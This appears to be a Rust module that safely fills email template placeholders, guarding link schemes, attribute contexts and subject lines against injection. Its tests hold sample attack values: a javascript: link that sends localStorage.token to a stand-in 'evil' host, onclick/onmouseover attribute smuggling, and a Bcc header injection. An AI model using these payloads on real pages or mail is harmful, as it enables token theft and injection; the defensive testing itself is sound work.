//! Placeholders filled into an email (contract §6). The stored HTML is
//! sanitised, but the values come from the conversation — from whoever
//! wrote in — so escaping is not enough where a value lands: at the start
//! of a link's address it decides the scheme (`javascript:`), and in a
//! subject a line break would start a header of its own.

/// Where a text goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Target {
    /// One line: line breaks and other control characters become spaces.
    Subject,
    /// The HTML body: values escaped, and checked where they land.
    Html,
    /// The plain text body, as it is.
    Plain,
}

/// Where in the HTML a placeholder stands, as far as its value goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Spot {
    /// Text between tags, or an attribute's value past its scheme.
    Text,
    /// The start of an address (`href="{{x}}…"`): the value decides its scheme.
    AddressStart,
    /// Inside a tag but in no value: nothing there is the conversation's.
    Tag,
    /// An unquoted value (sanitised HTML has none, settings sent to preview
    /// may): a space would end it and start an attribute of the sender's.
    /// Whether it is an address's start.
    Bare(bool),
}

/// Attributes whose value the browser follows or loads.
const ADDRESSES: [&str; 12] = [
    "href",
    "src",
    "action",
    "formaction",
    "background",
    "cite",
    "poster",
    "longdesc",
    "srcset",
    "usemap",
    "data",
    "ping",
];

/// Schemes an address a conversation's value starts may have.
const SCHEMES: [&str; 4] = ["http", "https", "mailto", "tel"];

/// The text with each placeholder's value put in, as `value` gives it.
pub fn fill(text: &str, target: Target, value: impl Fn(&str) -> String) -> String {
    let spans = crate::validate::placeholder_spans(text);
    let spots = if target == Target::Html { spots(text, spans.iter().map(|p| p.start)) } else { Vec::new() };
    let mut out = String::with_capacity(text.len());
    let mut copied = 0;
    for (i, p) in spans.iter().enumerate() {
        out.push_str(&text[copied..p.start]);
        let v = value(p.name);
        match target {
            Target::Subject => out.extend(v.chars().map(|c| if c.is_control() { ' ' } else { c })),
            Target::Plain => out.push_str(&v),
            Target::Html => match spots[i] {
                Spot::Text => crate::html::escape_html(&v, &mut out),
                Spot::AddressStart if safe_address(&v) => crate::html::escape_html(&v, &mut out),
                Spot::Bare(start) if fits_bare(&v) && (!start || safe_address(&v)) => {
                    crate::html::escape_html(&v, &mut out)
                }
                Spot::AddressStart | Spot::Tag | Spot::Bare(_) => {}
            },
        }
        copied = p.end;
    }
    out.push_str(&text[copied..]);
    out
}

/// Whether a value may start an address: no scheme (a relative one), or one
/// of [`SCHEMES`]. Browsers ignore whitespace and control characters in a
/// scheme, so they are left out before it is read.
fn safe_address(value: &str) -> bool {
    let bare: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
    let end = bare.find([':', '/', '?', '#']);
    match end {
        Some(i) if bare[i..].starts_with(':') => SCHEMES.iter().any(|s| s.eq_ignore_ascii_case(&bare[..i])),
        _ => true,
    }
}

/// Whether a value stays one unquoted attribute value.
fn fits_bare(value: &str) -> bool {
    !value
        .chars()
        .any(|c| c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '=' | '<' | '>' | '`'))
}

/// The spot of each offset (ascending) in sanitised HTML: a small tokenizer
/// of tags, attribute names and quoted or bare values.
fn spots(html: &str, offsets: impl Iterator<Item = usize>) -> Vec<Spot> {
    #[derive(Clone, Copy, PartialEq)]
    enum State {
        Text,
        Tag,
        /// An attribute's value: its quote (none for a bare one) and where it starts.
        Value(Option<u8>, usize),
    }
    let bytes = html.as_bytes();
    let mut state = State::Text;
    let mut name = (0, 0);
    let mut at = 0;
    let mut found = Vec::new();
    for offset in offsets {
        while at < offset.min(bytes.len()) {
            let b = bytes[at];
            state = match state {
                State::Text
                    if b == b'<'
                        && bytes.get(at + 1).is_some_and(|n| n.is_ascii_alphabetic() || *n == b'/') =>
                {
                    name = (at + 1, at + 1);
                    State::Tag
                }
                State::Text => State::Text,
                State::Tag => match b {
                    b'>' => State::Text,
                    b'=' => match bytes.get(at + 1) {
                        Some(q @ (b'"' | b'\'')) => {
                            at += 1;
                            State::Value(Some(*q), at + 1)
                        }
                        _ => State::Value(None, at + 1),
                    },
                    b if b.is_ascii_whitespace() || b == b'/' => {
                        name = (at + 1, at + 1);
                        State::Tag
                    }
                    _ => {
                        name.1 = at + 1;
                        State::Tag
                    }
                },
                State::Value(Some(q), _) if b == q => State::Tag,
                State::Value(None, _) if b.is_ascii_whitespace() => State::Tag,
                State::Value(None, _) if b == b'>' => State::Text,
                value => value,
            };
            at += 1;
        }
        found.push(match state {
            State::Text => Spot::Text,
            State::Tag => Spot::Tag,
            State::Value(quote, start) => {
                let attribute = html.get(name.0..name.1).unwrap_or_default();
                let before = html.get(start.min(offset)..offset).unwrap_or_default();
                let is_address = ADDRESSES.iter().any(|a| a.eq_ignore_ascii_case(attribute));
                // Past a ':' '/' '?' or '#' the scheme is settled.
                let address_start = is_address && !before.contains([':', '/', '?', '#']);
                match (quote, address_start) {
                    (None, _) => Spot::Bare(address_start),
                    (Some(_), true) => Spot::AddressStart,
                    (Some(_), false) => Spot::Text,
                }
            }
        });
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn html(text: &str, value: &str) -> String {
        fill(text, Target::Html, |_| value.to_owned())
    }

    #[test]
    fn a_value_never_decides_a_links_scheme() {
        let evil = "javascript:fetch('//evil/'+localStorage.token)";
        let cases = [
            ("<a href=\"{{subject}}\">t</a>", evil, "<a href=\"\">t</a>"),
            ("<a href=\"{{subject}}\">t</a>", " \tJava\nScript:alert(1)", "<a href=\"\">t</a>"),
            ("<a href='{{subject}}'>t</a>", "data:text/html,x", "<a href=''>t</a>"),
            ("<img src=\"{{content}}\">", "vbscript:x", "<img src=\"\">"),
            ("<a title=\"x\" HREF=\"{{subject}}\">t</a>", evil, "<a title=\"x\" HREF=\"\">t</a>"),
            ("<a href=\"java{{subject}}\">t</a>", "script:alert(1)", "<a href=\"java\">t</a>"),
            // Allowed schemes and relative addresses stay, escaped.
            ("<a href=\"{{subject}}\">t</a>", "https://example.com/?a=1&b=\"2\"", "<a href=\"https://example.com/?a=1&amp;b=&quot;2&quot;\">t</a>"),
            ("<a href=\"{{subject}}\">t</a>", "mailto:ann@example.com", "<a href=\"mailto:ann@example.com\">t</a>"),
            ("<a href=\"{{subject}}\">t</a>", "tickets/42", "<a href=\"tickets/42\">t</a>"),
            // Past the scheme the value is only part of the address.
            ("<a href=\"https://portal.example/t/{{subject}}\">t</a>", evil, "<a href=\"https://portal.example/t/javascript:fetch(&#39;//evil/&#39;+localStorage.token)\">t</a>"),
            // Other attributes and text: escaped, kept.
            ("<a title=\"{{subject}}\" href=\"/x\">{{subject}}</a>", "<b>\"hi\"</b>", "<a title=\"&lt;b&gt;&quot;hi&quot;&lt;/b&gt;\" href=\"/x\">&lt;b&gt;&quot;hi&quot;&lt;/b&gt;</a>"),
            ("<p>a > b {{subject}}</p>", evil, "<p>a > b javascript:fetch(&#39;//evil/&#39;+localStorage.token)</p>"),
            // In a tag but in no value: left out.
            ("<a {{subject}}>t</a>", "onclick=alert(1)", "<a >t</a>"),
            ("<a href={{subject}}>t</a>", evil, "<a href=>t</a>"),
            // Unquoted: a space would start an attribute of the sender's.
            ("<a href={{subject}}>t</a>", "https://x.example onmouseover=alert(1)", "<a href=>t</a>"),
            ("<a href={{subject}}>t</a>", "https://x.example/a", "<a href=https://x.example/a>t</a>"),
            ("<a title={{subject}} href=/x>t</a>", "a b", "<a title= href=/x>t</a>"),
            ("<a href=/t/{{subject}}>t</a>", "1 onclick=x", "<a href=/t/>t</a>"),
        ];
        for (text, value, want) in cases {
            assert_eq!(html(text, value), want, "{text} with {value}");
        }
    }

    #[test]
    fn a_subject_stays_one_line() {
        let got = fill("Re: {{subject}}", Target::Subject, |_| "Hi\r\nBcc: evil@example.com\u{0}".into());
        assert_eq!(got, "Re: Hi  Bcc: evil@example.com ");
        let body = fill("{{subject}}", Target::Plain, |_| "a\nb".into());
        assert_eq!(body, "a\nb", "the plain body keeps its lines");
    }
}
